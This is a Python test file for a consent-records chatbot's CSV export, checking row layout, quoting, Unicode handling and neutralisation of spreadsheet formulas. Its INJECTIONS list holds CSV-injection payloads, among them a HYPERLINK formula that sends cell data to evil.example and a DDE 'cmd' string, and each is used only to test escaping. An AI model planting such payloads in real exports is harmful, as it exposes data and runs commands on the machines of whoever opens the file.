"""The records list as CSV: what a spreadsheet shows, one row per record, and never a formula it runs."""

from __future__ import annotations

import csv
import dataclasses
import io

from bot.consent.record import CandidacyAnswer
from bot.invitations import IDENTITY_LINK, IDENTITY_LINK_DOB, IDENTITY_NUMBER, IDENTITY_PORTAL
from bot.records import consent_store, csv_export, printable
from tests.records.test_fhir import FULL_PAYLOAD, store

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_each_record_is_one_row_in_the_care_teams_words(database_url: str) -> None:
    first = store(database_url, "go_ahead", "MRN-1", identity=IDENTITY_PORTAL)
    second = store(database_url, "talk_to_doctor", None)
    table = rows(csv_export.records_csv(consent_store.records(database_url)))
    assert table[0] == list(csv_export.HEADER)
    assert table[1] == [
        str(first.id),
        first.created_at,
        "MRN-1",
        "clinic portal sign-in",
        "web",
        "Wants to go ahead",
        "content-v42",
        "4",  # blood thinner, allergies not sure, infection unclear, other health problems
        "2 of 4",
        "takes a blood thinner; allergy to medicine, anesthetic or contrast; current infection: answer not clear; "
        "other health problems; that it is not a cure; that the effect may wear off",
        first.record_hash,
    ]
    assert (
        table[2][0] == str(second.id)
        and table[2][2:4] == ["Not verified: nobody proved who was chatting"] * 2
        and table[2][5] == "Wants to talk to the doctor first"
    )
    assert len(table) == 3


def test_the_text_is_rfc_4180_quoted_with_crlf_line_ends(database_url: str) -> None:
    text = csv_export.records_csv([store(database_url)])
    assert text.startswith('"Record","Recorded (UTC)",') and text.endswith("\r\n")
    assert text.count("\r\n") == 2


def test_no_records_is_the_header_alone() -> None:
    assert rows(csv_export.records_csv([])) == [list(csv_export.HEADER)]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_made_plain_text(database_url: str) -> None:
    for attack in INJECTIONS:
        safe = csv_export.spreadsheet_safe(attack)
        assert safe == f"'{attack}", f"{attack!r} must be neutralised"
    for harmless in ["MRN-1", "José", "", " ", "1 of 2", "2026-12-01T10:00:00+00:00", "it's fine = ok"]:
        assert csv_export.spreadsheet_safe(harmless) == harmless
    assert csv_export.spreadsheet_safe("=1\x00+1") == "'=1+1" and csv_export.spreadsheet_safe("a\x00b") == "ab"

    # Through a whole stored record: the portal's patient id and a note that quotes an answer.
    flagged = CandidacyAnswer("other_health", "Any other health problems?", "x", "x", True, INJECTIONS[0], "typed")
    records = [store(database_url, patient_ref=attack, candidacy=(flagged,), teachback=()) for attack in INJECTIONS]
    for row, attack in zip(rows(csv_export.records_csv(records))[1:], INJECTIONS, strict=True):
        assert row[2] == f"'{attack}"
        assert row[9] == f"'{INJECTIONS[0]}"
        assert not any(cell[:1] in csv_export.FORMULA_STARTS for cell in row)


def test_unicode_and_line_breaks_survive_the_round_trip(database_url: str) -> None:
    note = "Ñandú 患者 — «asthma»\nand eczema"
    flagged = dataclasses.replace(FULL_PAYLOAD.candidacy[0], flagged=True, flag_note=note)
    record = store(database_url, patient_ref="José-Ø-७", candidacy=(flagged,), teachback=())
    text = csv_export.records_csv([record])
    row = rows(text)[1]
    assert row[2] == "José-Ø-७" and row[9] == note
    encoded = text.encode(csv_export.CSV_ENCODING)
    assert encoded.startswith(b"\xef\xbb\xbf"), "a byte order mark, so Excel reads UTF-8"
    assert rows(encoded.decode(csv_export.CSV_ENCODING)) == rows(text)


def test_the_points_to_go_over_are_the_flagged_answers_then_the_points_not_explained_back(database_url: str) -> None:
    record = store(database_url)
    assert printable.visit_points(record) == [
        "takes a blood thinner",
        "allergy to medicine, anesthetic or contrast",
        "current infection: answer not clear",
        "other health problems",
        "that it is not a cure",
        "that the effect may wear off",  # still being asked when the patient decided
    ]
    clear = store(database_url, candidacy=(FULL_PAYLOAD.candidacy[0],), teachback=FULL_PAYLOAD.teachback[:2])
    assert printable.visit_points(clear) == []
    assert rows(csv_export.records_csv([clear]))[1][7:10] == ["0", "2 of 2", ""]


def test_a_column_says_in_plain_words_how_each_patient_reference_was_verified(database_url: str) -> None:
    ways = [IDENTITY_LINK, IDENTITY_LINK_DOB, IDENTITY_NUMBER, IDENTITY_PORTAL, ""]
    records = [store(database_url, patient_ref="MRN-1", identity=way) for way in ways]
    records.append(store(database_url, patient_ref=None))
    table = rows(csv_export.records_csv(records))
    assert table[0][2:4] == ["Patient reference", "Patient verified by"]
    assert [row[3] for row in table[1:]] == [
        "invitation link",
        "invitation link and date of birth",
        "invited phone number",
        "clinic portal sign-in",
        "not recorded (before invitations, only the clinic portal sign-in gave a reference)",
        "Not verified: nobody proved who was chatting",
    ]
